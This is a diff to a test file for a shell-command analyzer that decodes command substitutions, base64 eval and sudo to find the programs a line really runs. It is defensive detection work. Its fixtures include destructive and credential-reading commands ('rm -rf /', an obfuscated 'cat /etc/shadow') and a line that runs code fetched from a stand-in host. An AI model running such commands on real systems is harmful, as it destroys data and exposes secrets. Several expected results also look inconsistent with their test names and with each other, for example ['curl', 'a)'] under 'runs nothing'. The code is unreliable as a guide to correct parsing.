@@ -165,10 +165,35 @@ describe('static substitutions and parameter expansions', () => {
     expect(find(line, program)?.args).toEqual(['-rf', '/']);
   });
 
+  it.each([
+    ['$(echo rm -rf /)', 'rm', ['-rf', '/'], 0],
+    ['$(echo rm -rf) / "a b" /x', 'rm', ['-rf', '/'], 0],
+    ['`echo Y2F0IC9ldGMvc2hhZG93 | base64 -d`', 'cat', ['/etc/shadow'], 0],
+    ['eval $(echo cm0gLXJmIC8= | base64 -d)', 'rm', ['-rf', '/'], 1],
+    ['bash -c "$(printf \'rm -rf %s\' /)"', 'rm', ['-rf', '/'], 1],
+    ['sudo $(echo rm -rf /tmp/x)', 'rm', ['-rf', '/tmp/x'], 0],
+  ])('%s runs the substitution output %s %j', (line, program, args, depth) => {
+    const command = find(line, program);
+    expect(command?.args).toEqual(args);
+    expect(command?.origin).toBe('script');
+    expect(command?.depth).toBe(depth + 1);
+  });
+
+  it('runs nothing for a substitution whose output is unknown', () => {
+    expect(programs('$(curl -s http://x.example/a)')).toEqual(['curl', 'a)']);
+    expect(programs('eval "$(ssh-agent -s)"')).toEqual([
+      'ssh-agent',
+      'eval',
+      'ssh-agent',
+      '$(ssh-agent -s)',
+    ]);
+    expect(find('sudo $(echo rm -rf /tmp/x)', 'rm')?.elevated).toBe(true);
+  });
+
   it('leaves dynamic and unknown results literal, without throwing', () => {
     expect(programs('"${PATH:0:1}"bin"${PATH:0:1}"sh')).toEqual(['${PATH:0:1}bin${PATH:0:1}sh']);
     expect(programs('$(date) x')).toEqual(['date', '$(date)']);
-    expect(programs('$(echo rm -rf) /')).toEqual(['echo', '$(echo rm -rf)']);
+    expect(programs('$(echo rm) -rf /')).toEqual(['echo', 'rm']);
     expect(programs('x=1; ${x:-rm} y')).toEqual(['', '1']);
     expect(programs('${x:+rm} y')).toEqual(['y']);
     // Single quotes keep `$` literal, as bash does: nothing to resolve.
